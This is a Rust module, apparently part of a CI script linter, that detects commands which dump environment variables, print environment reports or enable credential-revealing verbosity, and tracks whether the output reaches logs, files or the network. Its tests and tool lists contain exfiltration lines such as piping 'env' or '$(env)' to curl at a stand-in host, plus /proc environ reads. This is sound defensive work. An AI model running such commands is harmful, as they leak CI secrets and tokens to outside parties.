//! Commands that show more than a result: the whole environment, the parts of an environment report, verbosity that prints credentials.
//! Looks at whole scripts, because what stands behind a pipe decides what comes out. Has no opinion on whether a secret is there.

use super::prefix::{is_python, program};
use super::python_dump;
use crate::model::script::{Command, Deed, Dump, DumpSink, Join, Kept, Language, Nest, Reported, Script, Shell, Word};
use crate::model::span::Location;
use crate::model::text::Mapped;

/// Adds the deeds of a script's commands.
pub fn read(commands: &mut [Command]) {
    for index in 0..commands.len() {
        let found = deeds(commands, index);
        commands[index].deeds.extend(found);
    }
}

fn deeds(commands: &[Command], index: usize) -> Vec<Deed> {
    let command = &commands[index];
    let words = bare(&command.words);
    let mut deeds = Vec::new();
    if let Some(how) = dumps(command, words) {
        deeds.extend(fate(commands, index).map(|(kept, sinks)| Deed::Dump(Dump { how, kept, sinks })));
    }
    deeds.extend(reports(words).map(Deed::Report));
    deeds.extend(reveals(command, words).map(|how| Deed::Reveal(how.to_string())));
    deeds
}

fn text(word: &Word) -> &str {
    &word.text.text
}

/// The words without `sudo -E`, `command`, `time`, `cmd /c` and the like.
fn bare(words: &[Word]) -> &[Word] {
    let mut words = words;
    for _ in 0..4 {
        let Some((first, rest)) = words.split_first() else { return words };
        let skip = match program(text(first)) {
            "sudo" | "doas" | "time" | "nohup" | "exec" | "builtin" | "nice" | "stdbuf" => {
                rest.iter().take_while(|word| text(word).starts_with('-')).count()
            }
            // `command -v x` asks where x is.
            "command" if !rest.first().is_some_and(|word| text(word).starts_with('-')) => 0,
            "&" | "call" => 0,
            "cmd" if rest.first().is_some_and(|word| text(word).eq_ignore_ascii_case("/c")) => 1,
            _ => return words,
        };
        words = &rest[skip..];
    }
    words
}

/// How a command prints all variables of its environment; `None` when it does not.
fn dumps(command: &Command, words: &[Word]) -> Option<String> {
    let (first, rest) = words.split_first()?;
    let arguments: Vec<&str> = rest.iter().map(text).collect();
    let name = program(text(first));
    let posix = command.shell.language == Language::Posix;
    let flags = |allowed: &[&str]| arguments.iter().all(|word| allowed.contains(word));
    let reads = |mark: &str| {
        arguments.iter().any(|word| word.contains(mark))
            || command.redirects.iter().any(|one| one.operator == "<" && text(&one.target).contains(mark))
    };
    let it = match name {
        "env" => env_prints(&arguments),
        "printenv" => flags(&["-0", "--null"]),
        "set" if posix => arguments.is_empty(),
        "set" | "SET" => command.shell.language == Language::Cmd && arguments.is_empty(),
        "export" => flags(&["-p"]),
        "declare" | "typeset" => flags(&["-x", "-p", "-xp", "-px"]) && (posix || !arguments.is_empty()),
        "cat" | "strings" | "tr" | "xargs" | "less" | "more" | "head" | "sed" if reads("/environ") => reads("/proc/"),
        "ps" => arguments.first().is_some_and(|word| {
            word.contains('e') && !word.starts_with('-') && word.bytes().all(|byte| b"auxewfljg".contains(&byte))
        }),
        "systemctl" => arguments.contains(&"show-environment"),
        "buildkite-agent" => arguments.starts_with(&["env", "dump"]),
        "pipenv" => arguments.contains(&"--support"),
        "php" => arguments.contains(&"-i") || arguments.iter().any(|word| word.contains("phpinfo")),
        "node" | "nodejs" | "bun" | "deno" => after(&arguments, &["-p", "-e", "-pe", "--eval", "--print", "eval"])
            .is_some_and(|code| {
                let prints = code.contains("console.")
                    || code.contains("stdout")
                    || arguments
                        .iter()
                        .any(|word| word.contains('p') && word.starts_with('-') && *word != "--experimental");
                prints && is_whole(code, "process.env")
            }),
        "ruby" => after(&arguments, &["-e"]).is_some_and(|code| {
            let prints = ["p ", "pp ", "puts", "print", "p("].iter().any(|word| code.contains(word));
            prints && is_whole(code, "ENV")
        }),
        "perl" => after(&arguments, &["-e", "-E", "-le", "-lE"])
            .is_some_and(|code| code.contains("%ENV") && (code.contains("print") || code.contains("say"))),
        "Get-ChildItem" | "gci" | "dir" | "ls" | "Get-Item" | "get-childitem" => arguments
            .iter()
            .any(|word| matches!(word.to_ascii_lowercase().as_str(), "env:" | "env:*" | "env:\\" | "env:\\*")),
        "pwsh" | "powershell" => arguments.iter().any(|word| shows_drive(word)),
        _ if is_python(name) => return python(command, &arguments),
        _ => {
            let all: Vec<&str> = words.iter().map(text).collect();
            let method = all.iter().any(|word| word.contains("Environment]::GetEnvironmentVariables("));
            method || said(name, &arguments)
        }
    };
    it.then(|| if posix && name == "ps" { "ps e".to_string() } else { name.to_string() })
}

/// `env` with nothing but options and assignments prints; with a command it starts that.
fn env_prints(arguments: &[&str]) -> bool {
    let mut words = arguments.iter();
    let mut prints = true;
    while let Some(word) = words.next() {
        match *word {
            "-i" | "-" | "--ignore-environment" => return false,
            "-u" | "--unset" | "-C" | "--chdir" => drop(words.next()),
            "-S" | "--split-string" | "--help" | "--version" => return false,
            word if word.starts_with('-') || word.contains('=') => {}
            _ => prints = false,
        }
    }
    prints
}

/// `echo "$(env)"`: the substitution is not looked into, its output is the word.
fn said(name: &str, arguments: &[&str]) -> bool {
    let prints = matches!(name, "echo" | "printf" | "Write-Host" | "Write-Output");
    prints
        && arguments.iter().any(|word| {
            let dumps = |inner: &str| {
                let inner = inner.strip_suffix("| sort").or_else(|| inner.strip_suffix("|sort")).unwrap_or(inner);
                matches!(inner.trim_end(), "env" | "printenv" | "export -p" | "declare -x")
            };
            let quoted = word.split('`').skip(1).step_by(2).any(dumps);
            quoted || word.split("$(").skip(1).any(|rest| rest.split_once(')').is_some_and(|(inner, _)| dumps(inner)))
        })
}

fn shows_drive(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    ["gci env:", "get-childitem env:", "dir env:", "ls env:", "get-item env:*"].iter().any(|form| lower.contains(form))
        || lower.contains("environment]::getenvironmentvariables()")
}

/// The word after one of these options.
fn after<'a>(arguments: &[&'a str], options: &[&str]) -> Option<&'a str> {
    let at = arguments.iter().position(|word| options.contains(word))?;
    arguments.get(at + 1).copied()
}

/// Whether code speaks of a whole object, not of one of its entries.
fn is_whole(code: &str, object: &str) -> bool {
    code.match_indices(object).any(|(at, _)| {
        let rest = &code[at + object.len()..];
        let entry = rest.starts_with(['[', '.', '_'])
            && !rest.starts_with(".to_")
            && !rest.starts_with(".sort")
            && !rest.starts_with(".inspect")
            && !rest.starts_with(".each");
        !entry && !rest.starts_with(|c: char| c.is_ascii_alphanumeric())
    })
}

fn python(command: &Command, arguments: &[&str]) -> Option<String> {
    let document = || command.redirects.iter().find(|one| one.operator.starts_with("<<")).map(|one| text(&one.target));
    let code = after(arguments, &["-c"]).or_else(document)?;
    python_dump::find(code).map(|_| "os.environ".to_string())
}

/// Programs that hand on what they read, perhaps in another order or form.
const HAND_ON: &[&str] = &[
    "sort",
    "uniq",
    "tee",
    "cat",
    "less",
    "more",
    "head",
    "tail",
    "nl",
    "column",
    "tr",
    "sed",
    "awk",
    "gawk",
    "fold",
    "jq",
    "xargs",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "Sort-Object",
    "Format-Table",
    "ft",
    "fl",
    "Format-List",
    "Out-String",
    "Tee-Object",
    "Select-Object",
    "Out-File",
    "Set-Content",
    "ConvertTo-Json",
    "sort.exe",
    "findstr",
    "Where-Object",
    "more.com",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "gzip",
    "rev",
    "base32",
    "openssl",
];

/// Programs that send what they read.
const SEND: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "http",
    "https",
    "httpie",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "iwr",
    "irm",
    "mail",
    "sendmail",
];

/// Whether a client of a forge or a server puts what it reads where people see it.
fn posts(name: &str, arguments: &[&str]) -> bool {
    match name {
        "buildkite-agent" => arguments.first() == Some(&"annotate"),
        "gh" => arguments.iter().any(|word| matches!(*word, "comment" | "gist" | "-F" | "--body-file")),
        "glab" => arguments.contains(&"note"),
        _ => false,
    }
}

/// What is left of an output after the pipe behind it, and where it goes; `None` when nothing of the values comes out.
fn fate(commands: &[Command], index: usize) -> Option<(Kept, Vec<DumpSink>)> {
    let mut kept = Kept::All;
    let mut sinks = Vec::new();
    let mut at = index;
    loop {
        let command = &commands[at];
        let mut to_file = false;
        for redirect in
            command.redirects.iter().filter(|one| one.operator.contains('>') && !one.operator.starts_with('2'))
        {
            let target = text(&redirect.target);
            match target {
                "/dev/null" | "$null" | "nul" | "NUL" => return None,
                "&1" | "&2" | "1" | "2" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" => {}
                _ if target.starts_with("/dev/tcp/") => sinks.push(DumpSink::Network),
                _ => {
                    to_file = true;
                    sinks.push(DumpSink::File(redirect.target.clone()));
                }
            }
        }
        if to_file {
            return Some((kept, sinks));
        }
        let inside = command.nesting.iter().rposition(|nest| *nest == Nest::Substitution);
        if let Some(depth) = inside.filter(|_| command.join != Join::Pipe) {
            // What stands in `$( )` is handed to another command; one that says it is a print of its own.
            let outer = commands[..at].iter().rposition(|other| other.nesting == command.nesting[..depth])?;
            let name = program(text(bare(&commands[outer].words).first()?));
            return SEND.contains(&name).then(|| (kept, vec![DumpSink::Network]));
        }
        if command.join != Join::Pipe {
            break;
        }
        at = next(commands, at)?;
        let reader = &commands[at];
        let words = bare(&reader.words);
        let (first, rest) = words.split_first()?;
        let name = program(text(first));
        let arguments: Vec<&str> = rest.iter().map(text).collect();
        if SEND.contains(&name) || posts(name, &arguments) {
            sinks.push(DumpSink::Network);
            return Some((kept, sinks));
        }
        if !HAND_ON.contains(&name) || counts_or_names(name, &arguments) {
            return None;
        }
        match name {
            "tee" | "Tee-Object" => {
                let files = rest.iter().filter(|word| !text(word).starts_with('-') && !text(word).starts_with("/dev/"));
                sinks.extend(files.map(|word| DumpSink::File(word.clone())));
            }
            "Out-File" | "Set-Content" => {
                sinks.extend(
                    rest.iter().rfind(|word| !text(word).starts_with('-')).map(|word| DumpSink::File(word.clone())),
                );
                return Some((kept, sinks));
            }
            "base64" | "xxd" | "od" | "hexdump" | "gzip" | "rev" | "base32" | "openssl" if kept == Kept::All => {
                kept = Kept::Encoded
            }
            "grep" | "egrep" | "fgrep" | "rg" | "findstr" => {
                if let Some(patterns) = patterns(&arguments) {
                    kept = Kept::Only(patterns);
                }
            }
            _ => {}
        }
    }
    sinks.push(DumpSink::Log);
    Some((kept, sinks))
}

/// The command that reads the output of the one at `at`.
fn next(commands: &[Command], at: usize) -> Option<usize> {
    let base = &commands[at].nesting;
    let inner = |command: &Command| {
        let deeper = command.nesting.get(base.len()).filter(|_| command.nesting.starts_with(base));
        matches!(deeper, Some(Nest::Substitution | Nest::Inner))
    };
    (at + 1..commands.len()).find(|&next| !inner(&commands[next]))
}

/// Whether a filter lets no value through: it counts, answers, or keeps what stands before `=`.
fn counts_or_names(name: &str, arguments: &[&str]) -> bool {
    let joined = arguments.join(" ");
    let short = |letters: &[char]| {
        arguments.iter().any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains(letters))
    };
    match name {
        "grep" | "egrep" | "fgrep" | "rg" => {
            let names = joined.contains("[^=]*") || joined.contains("[^=]+") || joined.contains("[A-Z_]");
            short(&['c', 'q', 'l'])
                || arguments.iter().any(|word| matches!(*word, "--count" | "--quiet" | "--silent"))
                || short(&['o']) && names
        }
        "sed" => {
            arguments.iter().any(|word| word.starts_with('s') && (word.contains("=.*") || word.contains("=\\(.*")))
        }
        "awk" | "gawk" => {
            let splits =
                joined.contains("-F=") || joined.contains("-F =") || joined.contains("FS=") || joined.contains("FS =");
            splits && joined.contains("$1") && !joined.contains("$2") && !joined.contains("$0")
        }
        "xargs" => {
            !arguments.is_empty()
                && !arguments.iter().all(|word| word.starts_with('-') || matches!(*word, "echo" | "1" | "\\n"))
        }
        "Select-Object" => {
            arguments.iter().any(|word| word.eq_ignore_ascii_case("name"))
                && !joined.to_ascii_lowercase().contains("value")
        }
        _ => false,
    }
}

/// What a search keeps: its patterns, alternatives apart; `None` when it leaves out instead, or when that cannot be told.
fn patterns(arguments: &[&str]) -> Option<Vec<String>> {
    let short = |letter: char| {
        arguments.iter().any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains(letter))
    };
    if short('v') || arguments.contains(&"--invert-match") || short('f') {
        return None;
    }
    let explicit = arguments.iter().any(|word| *word == "-e" || *word == "--regexp");
    let mut found: Vec<&str> = Vec::new();
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        match *word {
            "-e" | "--regexp" => found.extend(words.next()),
            "-A" | "-B" | "-C" | "-m" => drop(words.next()),
            word if word.starts_with('-') => {}
            word if !explicit && found.is_empty() => found.push(word),
            _ => {}
        }
    }
    let mut parts = Vec::new();
    for pattern in found {
        parts
            .extend(pattern.replace("\\|", "|").split('|').map(|part| part.trim_matches(['(', ')', '\\']).to_string()));
    }
    let sensitive = !short('i') && !arguments.contains(&"--ignore-case");
    let parts: Vec<String> =
        parts.into_iter().map(|part| if sensitive { part } else { format!("(?i){part}") }).collect();
    (!parts.is_empty()).then_some(parts)
}

/// Which part of an environment report a command prints.
fn reports(words: &[Word]) -> Option<Reported> {
    let (first, rest) = words.split_first()?;
    let arguments: Vec<&str> = rest.iter().map(text).collect();
    let has = |word: &str| arguments.contains(&word);
    let name = program(text(first));
    Some(match name {
        "pinguard" if has("env-report") => Reported::Everything,
        "uv" | "pdm" | "poetry" | "pixi" | "hatch" | "pipenv" | "rye" if has("run") => {
            let inner = rest.iter().position(|word| text(word) == "run").map_or(rest, |at| &rest[at + 1..]);
            let starts =
                |word: &Word| is_python(program(text(word))) || matches!(text(word), "pip" | "conda" | "uname");
            let start = inner.iter().position(starts)?;
            return reports(&inner[start..]);
        }
        "uv" if has("pip") && (has("freeze") || has("list") || has("tree")) => Reported::Packages,
        "uv" if has("python") && (has("list") || has("find")) => Reported::Interpreter,
        "uv" | "poetry" if has("tree") || has("show") => Reported::Packages,
        "pip" if has("freeze") || has("list") || has("inspect") => Reported::Packages,
        "pip" if has("debug") || has("-V") || has("--version") => Reported::Interpreter,
        "pdm" | "conda" | "mamba" | "micromamba" | "pixi" if has("list") => Reported::Packages,
        "conda" | "mamba" | "micromamba" if has("info") => Reported::Interpreter,
        "uname" | "lsb_release" | "hostnamectl" | "sw_vers" | "ldd" | "systeminfo" | "lscpu" | "nproc" | "free"
        | "df" => Reported::Platform,
        "cat" if arguments.iter().any(|word| word.starts_with("/etc/") && word.contains("release")) => {
            Reported::Platform
        }
        "env" | "printenv" => return None,
        _ if is_python(name) => return python_reports(rest, &arguments),
        _ => return None,
    })
}

fn python_reports(words: &[Word], arguments: &[&str]) -> Option<Reported> {
    if arguments.first().is_some_and(|word| matches!(*word, "-V" | "-VV" | "--version")) {
        return Some(Reported::Interpreter);
    }
    if let Some(code) = after(arguments, &["-c"]).filter(|code| code.contains("print")) {
        let platform = code.contains("platform");
        let version = code.contains("sys.version") || code.contains("sys.executable") || code.contains("sysconfig");
        return if platform { Some(Reported::Platform) } else { version.then_some(Reported::Interpreter) };
    }
    // Scripts and modules that are made for it: `print_versions.py`, `torch.utils.collect_env`.
    let made = ["print_versions", "show_versions", "print_version", "collect_env", "print_env", "env_info", "sysinfo"];
    let named = arguments.iter().take(2).any(|word| made.iter().any(|name| word.contains(name)));
    if named || after(arguments, &["-c"]).is_some_and(|code| made.iter().any(|name| code.contains(name))) {
        return Some(Reported::Everything);
    }
    match arguments {
        ["-m", "platform" | "sysconfig" | "site", ..] => Some(Reported::Interpreter),
        ["-m", "pip" | "uv", ..] => reports(&words[1..]),
        _ => None,
    }
}

/// Verbosity that prints credentials which the command has: its headers, its address, its environment.
fn reveals(command: &Command, words: &[Word]) -> Option<&'static str> {
    let sets = |names: &[&str]| {
        let on = |text: &str| !matches!(text, "" | "0" | "false" | "no" | "off");
        command.assigns.iter().any(|(name, value)| names.contains(&name.as_str()) && on(&value.text))
            || words.first().is_some_and(|word| matches!(text(word), "export" | "declare"))
                && words[1..].iter().any(|word| {
                    text(word).split_once('=').is_some_and(|(name, value)| names.contains(&name) && on(value))
                })
    };
    if sets(&["GIT_CURL_VERBOSE", "GIT_TRACE_CURL"]) {
        return Some("GIT_CURL_VERBOSE");
    }
    let (first, rest) = words.split_first()?;
    let arguments: Vec<&str> = rest.iter().map(text).collect();
    let has = |word: &str| arguments.contains(&word);
    let short = |letter: char| {
        arguments.iter().any(|word| {
            word.starts_with('-')
                && !word.starts_with("--")
                && word.contains(letter)
                && word[1..].bytes().all(|byte| byte.is_ascii_alphabetic())
        })
    };
    Some(match program(text(first)) {
        "curl"
            if has("--verbose")
                || has("--trace")
                || has("--trace-ascii")
                || arguments.iter().any(|word| curl_verbose(word)) =>
        {
            "curl -v"
        }
        "wget" if short('d') || has("--debug") => "wget -d",
        "http" | "https" | "httpie" if has("--verbose") || has("-v") => "http --verbose",
        "aws" if has("--debug") => "aws --debug",
        "ansible" | "ansible-playbook" if arguments.iter().any(|word| word.starts_with("-vvv")) => "ansible -vvv",
        "docker" | "podman" if has("compose") && has("config") => "docker compose config",
        "docker-compose" if has("config") => "docker compose config",
        "docker" | "podman" if inspects_container(&arguments) => "docker inspect",
        "helm" if has("--debug") && ["install", "upgrade", "template", "lint"].iter().any(|word| has(word)) => {
            "helm --debug"
        }
        "helm" if has("get") && (has("values") || has("all") || has("manifest")) => "helm get values",
        "kubectl" | "oc" if kubectl_verbose(&arguments) => "kubectl -v=8",
        "kubectl" | "oc" if has("describe") && arguments.iter().any(|word| is_pod(word)) => "kubectl describe",
        "terraform" | "tofu"
            if command.assigns.iter().any(|(name, value)| {
                name == "TF_LOG" && matches!(value.text.as_str(), "TRACE" | "trace" | "DEBUG")
            }) =>
        {
            "TF_LOG=TRACE"
        }
        "pytest" | "py.test" if has("--showlocals") || has("-l") => "pytest --showlocals",
        "make" | "gmake" if has("-p") || has("--print-data-base") => "make -p",
        "tox" if has("config") || has("--showconfig") => "tox config",
        name if is_python(name) && has("-m") && has("pytest") && (has("--showlocals") || has("-l")) => {
            "pytest --showlocals"
        }
        _ => return None,
    })
}

/// `docker inspect X` and `docker container inspect X` with all that they show; a template picks its parts.
fn inspects_container(arguments: &[&str]) -> bool {
    let words = match arguments {
        ["container", rest @ ..] => rest,
        other => other,
    };
    let part = |word: &&str| {
        word.starts_with("-f")
            || word.starts_with("--format")
            || word.starts_with("--type=") && !word.ends_with("container")
    };
    words.first() == Some(&"inspect") && !words.iter().any(part)
}

/// From level 8 on, `kubectl` prints what it sends and gets.
fn kubectl_verbose(arguments: &[&str]) -> bool {
    let level = |text: &str| text.parse::<u32>().is_ok_and(|level| level >= 8);
    let joined = |word: &&str| ["-v=", "--v=", "-v"].iter().any(|lead| word.strip_prefix(lead).is_some_and(level));
    arguments.iter().any(joined) || arguments.windows(2).any(|pair| matches!(pair[0], "-v" | "--v") && level(pair[1]))
}

fn is_pod(word: &str) -> bool {
    let kind = word.split('/').next().unwrap_or(word);
    matches!(
        kind,
        "po" | "pod"
            | "pods"
            | "deploy"
            | "deployment"
            | "deployments"
            | "job"
            | "jobs"
            | "sts"
            | "statefulset"
            | "statefulsets"
    )
}

/// `-v` among curl's short options, before any that takes a value (`-sSfv`, not `-ovalue`).
fn curl_verbose(word: &str) -> bool {
    let Some(letters) = word.strip_prefix('-').filter(|letters| !letters.starts_with('-')) else { return false };
    let plain = letters.find(|c: char| !"#0123456aBfgGiIjJklLnNOpqRsSvZ".contains(c)).unwrap_or(letters.len());
    letters[..plain].contains('v')
}

/// A script of one command that prints all variables of its environment, where no shell does it.
pub fn dump(how: &str, at: Location, shell: Shell) -> Script {
    let dump = Dump { how: how.to_string(), kept: Kept::All, sinks: vec![DumpSink::Log] };
    // No shell reads it, so no shell traces it.
    let shell = Shell { xtrace: false, ..shell };
    let command = Command {
        at,
        assigns: Vec::new(),
        words: Vec::new(),
        redirects: Vec::new(),
        join: Join::End,
        nesting: Vec::new(),
        shell,
        cwd: None,
        deeds: vec![Deed::Dump(dump)],
    };
    Script { at, shell, commands: vec![command], cwd: String::new() }
}

/// Puts the dumps of a Python program into a script of their own commands.
pub fn read_python(script: &mut Script, code: &Mapped) {
    if let Some(part) = python_dump::find(&code.text) {
        let dump = Dump { how: "os.environ".to_string(), kept: Kept::All, sinks: vec![DumpSink::Log] };
        let command = Command {
            at: code.place(part).0,
            assigns: Vec::new(),
            words: Vec::new(),
            redirects: Vec::new(),
            join: Join::End,
            nesting: Vec::new(),
            shell: script.shell,
            cwd: None,
            deeds: vec![Deed::Dump(dump)],
        };
        script.commands.push(command);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::facts::Facts;
    use crate::model::span::SourceId;
    use crate::tools::read_script;

    fn script(text: &str, language: Language) -> Script {
        let shell = Shell { language, ..Shell::PLAIN };
        read_script(&Mapped::verbatim(text, SourceId(0), 0), shell, "", "run", &mut Facts::of(SourceId(0), "test"))
    }

    /// What a script lets out, in short: `all`, `encoded`, `only`, with `>file`, `>net`.
    fn shown(text: &str, language: Language) -> Vec<String> {
        let deeds = script(text, language).commands.into_iter().flat_map(|command| command.deeds);
        let dump = |deed| match deed {
            Deed::Dump(dump) => Some(dump),
            _ => None,
        };
        let word = |dump: Dump| {
            let kept = match dump.kept {
                Kept::All => "all",
                Kept::Encoded => "encoded",
                Kept::Only(_) => "only",
            };
            let sinks = dump.sinks.iter().filter_map(|sink| match sink {
                DumpSink::Log => None,
                DumpSink::File(word) => Some(format!(">{}", word.text.text)),
                DumpSink::Network => Some(">net".to_string()),
            });
            kept.to_string() + &sinks.collect::<String>()
        };
        deeds.filter_map(dump).map(word).collect()
    }

    #[test]
    fn environments_are_printed_in_many_ways() {
        for (line, expected) in [
            ("env", "all"),
            ("/usr/bin/env", "all"),
            ("printenv", "all"),
            ("env -0", "all"),
            ("set", "all"),
            ("export", "all"),
            ("export -p", "all"),
            ("declare -x", "all"),
            ("typeset -x", "all"),
            ("sudo -E env", "all"),
            ("env | sort", "all"),
            ("env A=b", "all"),
            ("env -u X", "all"),
            ("cat /proc/self/environ", "all"),
            ("tr '\\0' '\\n' < /proc/self/environ", "all"),
            ("strings /proc/1/environ", "all"),
            ("ps eww", "all"),
            ("ps auxe", "all"),
            ("env | grep -v TOKEN", "all"),
            ("env | tee env.log | sort", "all>env.log"),
            ("env > env.txt", "all>env.txt"),
            ("env | base64", "encoded"),
            ("env | curl -d @- https://x.io", "all>net"),
            ("env | grep -E '^(GITHUB_|RUNNER_)'", "only"),
            ("echo \"$(env | sort)\"", "all"),
            ("bash -c 'env'", "all"),
            ("python -c 'import os; print(os.environ)'", "all"),
            ("python3 - <<'X'\nimport os\nprint(dict(os.environ))\nX\n", "all"),
            ("node -p process.env", "all"),
            ("node -e 'console.log(process.env)'", "all"),
            ("ruby -e 'p ENV.to_h'", "all"),
            ("perl -e 'print %ENV'", "all"),
            ("php -i", "all"),
            ("pipenv --support", "all"),
            ("systemctl show-environment", "all"),
            ("buildkite-agent env dump", "all"),
            ("curl -d \"$(env)\" https://x.io", "all>net"),
            ("curl --data \"$(env | base64)\" https://x.io", "encoded>net"),
            ("env | buildkite-agent annotate", "all>net"),
            ("env | gh pr comment 1 --body-file -", "all>net"),
        ] {
            assert_eq!(shown(line, Language::Posix), [expected], "{line}");
        }
        for line in [
            "Get-ChildItem Env:",
            "gci env:",
            "dir env: | Sort-Object Name",
            "ls env:\\",
            "[Environment]::GetEnvironmentVariables()",
        ] {
            assert_eq!(shown(line, Language::PowerShell), ["all"], "{line}");
        }
        assert_eq!(shown("set", Language::Cmd), ["all"]);
        assert_eq!(shown("import os\nprint(os.environ)\n", Language::Python), ["all"]);
    }

    #[test]
    fn clients_that_print_credentials_are_known() {
        let how = |line: &str| {
            let deeds = script(line, Language::Posix).commands.into_iter().flat_map(|command| command.deeds);
            deeds.filter_map(|deed| if let Deed::Reveal(how) = deed { Some(how) } else { None }).collect::<Vec<_>>()
        };
        for (line, expected) in [
            ("helm upgrade --install x . --debug", "helm --debug"),
            ("helm get values x", "helm get values"),
            ("kubectl apply -f x -v=8", "kubectl -v=8"),
            ("kubectl -v 9 get pods", "kubectl -v=8"),
            ("kubectl describe pod/x", "kubectl describe"),
            ("docker inspect x", "docker inspect"),
            ("docker container inspect x", "docker inspect"),
            ("curl -v https://x.io", "curl -v"),
        ] {
            assert_eq!(how(line), [expected], "{line}");
        }
        for line in [
            "helm version --debug",
            "kubectl get pods -v=6",
            "kubectl describe nodes",
            "docker inspect -f '{{.State}}' x",
            "docker image inspect x",
            "docker manifest inspect x",
        ] {
            assert!(how(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn names_questions_and_commands_are_no_dump() {
        for line in [
            "env A=b cmd",
            "env -i cmd",
            "env -u X cmd",
            "/usr/bin/env bash",
            "printenv HOME",
            "set -e",
            "set -- a b",
            "export A=b",
            "declare -x A",
            "compgen -e",
            "env | cut -d= -f1 > /dev/null",
            "env | sed 's/=.*//'",
            "env | grep -c X",
            "env | awk -F= '{print $1}'",
            "if env | grep -q CI; then x; fi",
            "env > /dev/null",
            "X=$(env)",
            "env | docker run --env-file /dev/stdin a",
            "docker exec x env",
            "ps aux",
            "ps -ef",
            "cat /proc/cpuinfo",
            "go env",
            "conda env list",
            "node -p process.env.HOME",
            "ruby -e 'puts ENV[\"A\"]'",
            "python -c 'import os; print(os.environ[\"A\"])'",
            "tox -e env",
        ] {
            assert!(shown(line, Language::Posix).is_empty(), "{line}: {:?}", shown(line, Language::Posix));
        }
        assert!(shown("env | cut -d= -f1", Language::Posix).is_empty());
        for line in ["$env:PATH", "Write-Host $env:HOME", "Get-ChildItem Env:PATH", "ls"] {
            assert!(shown(line, Language::PowerShell).is_empty(), "{line}");
        }
        assert!(shown("set A=b", Language::Cmd).is_empty());
    }

    #[test]
    fn patterns_say_what_comes_out() {
        let lets = |line: &str, variable: &str| {
            let commands = script(line, Language::Posix).commands;
            commands
                .iter()
                .flat_map(|command| &command.deeds)
                .any(|deed| matches!(deed, Deed::Dump(dump) if dump.kept.lets(variable)))
        };
        assert!(!lets("env | grep -E '^(GITHUB_|RUNNER_|PYTHON)'", "PYPI_TOKEN"));
        assert!(lets("env | grep -E '^(GITHUB_|RUNNER_|PYTHON)'", "GITHUB_PAT"));
        assert!(lets("env | grep -i token", "PYPI_TOKEN"));
        assert!(!lets("env | grep ^CI_", "PYPI_TOKEN"));
        assert!(lets("env | grep '^[A-Z]'", "PYPI_TOKEN"));
        assert!(!lets("env | grep -e ^CI -e PATH", "PYPI_TOKEN"));
    }

    #[test]
    fn parts_of_a_report_and_verbosity_are_known() {
        let deeds = |line: &str| {
            script(line, Language::Posix).commands.into_iter().flat_map(|command| command.deeds).collect::<Vec<_>>()
        };
        for (line, expected) in [
            ("python -VV", Reported::Interpreter),
            ("python -m pip freeze --all", Reported::Packages),
            ("pip list", Reported::Packages),
            ("uv pip freeze", Reported::Packages),
            ("uv run python -V", Reported::Interpreter),
            ("uname -a", Reported::Platform),
            ("cat /etc/os-release", Reported::Platform),
            ("python -c 'import platform; print(platform.platform())'", Reported::Platform),
            ("pixi run -e test -- python x/util/print_versions.py", Reported::Everything),
            ("python -c 'import pandas; pandas.show_versions()'", Reported::Everything),
            ("pinguard env-report --strict", Reported::Everything),
        ] {
            assert!(deeds(line).contains(&Deed::Report(expected)), "{line}");
        }
        for line in ["pip install x", "python x.py", "cat README"] {
            assert!(!deeds(line).iter().any(|deed| matches!(deed, Deed::Report(_))), "{line}");
        }
        for line in [
            "curl -v x",
            "curl -sSfLv x",
            "curl --trace - x",
            "GIT_CURL_VERBOSE=1 git push",
            "aws s3 ls --debug",
            "pytest -l",
            "docker compose config",
            "make -p",
        ] {
            assert!(deeds(line).iter().any(|deed| matches!(deed, Deed::Reveal(_))), "{line}");
        }
        for line in [
            "curl -sSfL x",
            "curl -ov x",
            "wget -q x",
            "pytest -v",
            "GIT_CURL_VERBOSE=0 git push",
            "make -j4",
            "docker compose up",
        ] {
            assert!(!deeds(line).iter().any(|deed| matches!(deed, Deed::Reveal(_))), "{line}");
        }
    }
}
